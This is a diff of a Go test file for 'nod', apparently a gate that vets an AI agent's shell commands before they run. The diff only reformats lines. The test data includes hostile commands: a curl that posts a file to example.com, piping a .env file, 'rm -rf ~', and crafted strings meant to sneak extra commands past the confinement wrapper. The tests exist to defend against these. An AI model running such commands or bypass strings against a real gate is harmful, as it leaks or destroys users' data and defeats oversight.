@@ -18,14 +18,18 @@ func confined(program, line string) string {
 
 func confining(t *testing.T, change func(o *nod.Options)) *nod.Gate {
 	t.Helper()
-	files := view.NewMemory(false).Dir("/home/dev", 0o755).Dir("/home/dev/shop/.git", 0o755).File("/home/dev/shop/.env", "KEY=1", 0o600).
-		File("/home/dev/shop/package.json", `{"scripts":{"test":"node t.js"}}`, 0o644).Dir("/home/dev/shop/sub", 0o755).File("/home/dev/shop/a.txt", "a", 0o644).
+	files := view.NewMemory(false).Dir("/home/dev", 0o755).Dir("/home/dev/shop/.git", 0o755).File("/home/dev/shop/.env",
+		"KEY=1", 0o600).
+		File("/home/dev/shop/package.json", `{"scripts":{"test":"node t.js"}}`, 0o644).Dir("/home/dev/shop/sub",
+		0o755).File("/home/dev/shop/a.txt", "a", 0o644).
 		Dir("/tmp", 0o777).File("/tmp/x.py", "x", 0o644).Dir("/usr/bin", 0o755)
-	for _, name := range []string{"npm", "node", "go", "python3", "cat", "make", "pytest", "tee", "tail", "curl", "git", "ls", "rm", "bash", "timeout"} {
+	for _, name := range []string{"npm", "node", "go", "python3", "cat", "make", "pytest", "tee", "tail", "curl", "git",
+		"ls", "rm", "bash", "timeout"} {
 		files = files.File("/usr/bin/"+name, "x", 0o755)
 	}
 	rules := nod.DefaultRules()
-	o := nod.Options{Rules: rules, Files: files, Home: "/home/dev", Confine: func() string { return confiner }, ConfineAll: true}
+	o := nod.Options{Rules: rules, Files: files, Home: "/home/dev", Confine: func() string { return confiner },
+		ConfineAll: true}
 	if change != nil {
 		change(&o)
 	}
@@ -33,7 +37,8 @@ func confining(t *testing.T, change func(o *nod.Options)) *nod.Gate {
 }
 
 func line(command string) nod.Call {
-	return nod.Call{Agent: "test", Tool: "bash", RawTool: "Bash", Command: command, Dialect: nod.Bash, Dir: "/home/dev/shop", Roots: []string{"/home/dev/shop"}, Environ: []string{"PATH=/usr/bin", "HOME=/home/dev"}}
+	return nod.Call{Agent: "test", Tool: "bash", RawTool: "Bash", Command: command, Dialect: nod.Bash,
+		Dir: "/home/dev/shop", Roots: []string{"/home/dev/shop"}, Environ: []string{"PATH=/usr/bin", "HOME=/home/dev"}}
 }
 
 // What has no other fault than unread code is denied with the line to type, and
@@ -41,12 +46,15 @@ func line(command string) nod.Call {
 func TestTheLineToTypeInstead(t *testing.T) {
 	g := confining(t, nil)
 	for _, command := range []string{
-		"npm test", "go test ./...", "go test ./... 2>&1 | tail -50", "python3 -c 'print(1)'", "make test", "pytest -q > out.txt", "cat a.txt | python3 -c 'x'", "npm test && go vet ./...", "cd /home/dev/shop && npm test", "node sub/x.js", "python3 - <<'X'\nprint(1)\nX",
+		"npm test", "go test ./...", "go test ./... 2>&1 | tail -50", "python3 -c 'print(1)'", "make test",
+		"pytest -q > out.txt", "cat a.txt | python3 -c 'x'", "npm test && go vet ./...",
+		"cd /home/dev/shop && npm test", "node sub/x.js", "python3 - <<'X'\nprint(1)\nX",
 		"python3 -c 'print(\"two  blanks   stay\")'", "python3 -c 'print(1" + strings.Repeat("+1", 300) + ")'",
 	} {
 		d := g.Check(context.Background(), line(command))
 		typed := confined(confiner, command)
-		if d.Verdict != nod.Deny || d.Layer != nod.LayerShell || !strings.Contains(command, "\n") && !strings.HasSuffix(d.Reason, "type exactly "+typed) {
+		if d.Verdict != nod.Deny || d.Layer != nod.LayerShell || !strings.Contains(command,
+			"\n") && !strings.HasSuffix(d.Reason, "type exactly "+typed) {
 			t.Errorf("%q: %v %v %q", command, d.Verdict, d.Layer, d.Reason)
 		}
 		d = g.Check(context.Background(), line(typed))
@@ -66,9 +74,14 @@ func TestTheLineToTypeInstead(t *testing.T) {
 			}
 		}
 		for _, other := range []string{
-			typed + " | tail", typed + "; npm test", typed + " && npm test", "A=1 " + typed, "cd sub && " + typed, typed + " > /dev/stdin", "(" + typed + ")", "npm test; " + typed, typed + "\nnpm test", typed + " &",
-			strings.Replace(typed, " -- ", " ", 1), strings.Replace(typed, " -- ", " --x -- ", 1), strings.Replace(typed, " -- ", "  -- ", 1), strings.Replace(typed, confiner, "nod", 1), strings.Replace(typed, confiner, "/tmp/nod", 1), strings.Replace(typed, confiner, "./nod", 1),
-			confiner + " confine -- \"npm test\"", confiner + " confine -- npm test", confiner + " confine -- $X", confiner + " confine -- ''", confiner + " confine -- 'a'b'", confiner + " confine on", confiner + " confine off",
+			typed + " | tail", typed + "; npm test", typed + " && npm test", "A=1 " + typed, "cd sub && " + typed,
+			typed + " > /dev/stdin", "(" + typed + ")", "npm test; " + typed, typed + "\nnpm test", typed + " &",
+			strings.Replace(typed, " -- ", " ", 1), strings.Replace(typed, " -- ", " --x -- ", 1),
+			strings.Replace(typed, " -- ", "  -- ", 1), strings.Replace(typed, confiner, "nod", 1),
+			strings.Replace(typed, confiner, "/tmp/nod", 1), strings.Replace(typed, confiner, "./nod", 1),
+			confiner + " confine -- \"npm test\"", confiner + " confine -- npm test", confiner + " confine -- $X",
+			confiner + " confine -- ''", confiner + " confine -- 'a'b'", confiner + " confine on",
+			confiner + " confine off",
 		} {
 			if d := g.Check(context.Background(), line(other)); d.Verdict == nod.Allow {
 				t.Errorf("%q is allowed: %q", other, d.Reason)
@@ -82,10 +95,14 @@ func TestTheLineToTypeInstead(t *testing.T) {
 func TestWhatIsNotConfined(t *testing.T) {
 	with, without := confining(t, nil), confining(t, func(o *nod.Options) { o.Confine = nil })
 	for _, command := range []string{
-		"npm install", "cat .env | node x.js", "npm test; rm a.txt", "npm test > /etc/x", "python3 /tmp/x.py", "npm test | tee /tmp/out", "curl -d @a.txt https://example.com; npm test", "cd sub && npm test", "export A=1; npm test", "git push && npm test", "npm test; kill 1",
-		"foo-unknown --x", "npm test $(foo-unknown)", "eval \"$X\"", "npm test && cat ~/notes.txt", "source x.sh", "sudo npm test", "cd / && npm test",
+		"npm install", "cat .env | node x.js", "npm test; rm a.txt", "npm test > /etc/x", "python3 /tmp/x.py",
+		"npm test | tee /tmp/out", "curl -d @a.txt https://example.com; npm test", "cd sub && npm test",
+		"export A=1; npm test", "git push && npm test", "npm test; kill 1",
+		"foo-unknown --x", "npm test $(foo-unknown)", "eval \"$X\"", "npm test && cat ~/notes.txt", "source x.sh",
+		"sudo npm test", "cd / && npm test",
 	} {
-		now, before := with.Check(context.Background(), line(command)), without.Check(context.Background(), line(command))
+		now, before := with.Check(context.Background(), line(command)),
+			without.Check(context.Background(), line(command))
 		if now.Verdict != before.Verdict || now.Reason != before.Reason {
 			t.Errorf("%q: %v %q, without %v %q", command, now.Verdict, now.Reason, before.Verdict, before.Reason)
 		}
@@ -113,7 +130,9 @@ func TestRulesComeBeforeConfinement(t *testing.T) {
 		o.Self = []string{"/home/dev/.config/nod", confiner}
 	})
 	for command, want := range map[string]nod.Verdict{
-		"npm test": nod.Deny, "make test": nod.Ask, "go test ./...": nod.Deny, "pytest -q": nod.Allow, "node x.js; rm -rf ~": nod.Deny, "node x.js > ~/.config/nod/nod.toml": nod.Deny, "node x.js; echo x > " + confiner: nod.Deny, confiner + " approve": nod.Deny,
+		"npm test": nod.Deny, "make test": nod.Ask, "go test ./...": nod.Deny, "pytest -q": nod.Allow,
+		"node x.js; rm -rf ~": nod.Deny, "node x.js > ~/.config/nod/nod.toml": nod.Deny,
+		"node x.js; echo x > " + confiner: nod.Deny, confiner + " approve": nod.Deny,
 	} {
 		d := g.Check(context.Background(), line(command))
 		if d.Verdict != want || strings.Contains(d.Reason, "type exactly") {
@@ -130,10 +149,12 @@ func TestRulesComeBeforeConfinement(t *testing.T) {
 // other command of nod's.
 func TestNothingIsConfinedWhereItCannotBe(t *testing.T) {
 	for name, change := range map[string]func(o *nod.Options){
-		"switched off": func(o *nod.Options) { o.Confine = nil }, "not to be had": func(o *nod.Options) { o.Confine = func() string { return "" } },
+		"switched off":  func(o *nod.Options) { o.Confine = nil },
+		"not to be had": func(o *nod.Options) { o.Confine = func() string { return "" } },
 	} {
 		g := confining(t, change)
-		if d := g.Check(context.Background(), line("npm test")); strings.Contains(d.Reason, "confine") || d.Verdict == nod.Allow {
+		if d := g.Check(context.Background(), line("npm test")); strings.Contains(d.Reason,
+			"confine") || d.Verdict == nod.Allow {
 			t.Errorf("%s: %v %q", name, d.Verdict, d.Reason)
 		}
 		if d := g.Check(context.Background(), line(confined(confiner, "npm test"))); d.Verdict == nod.Allow {
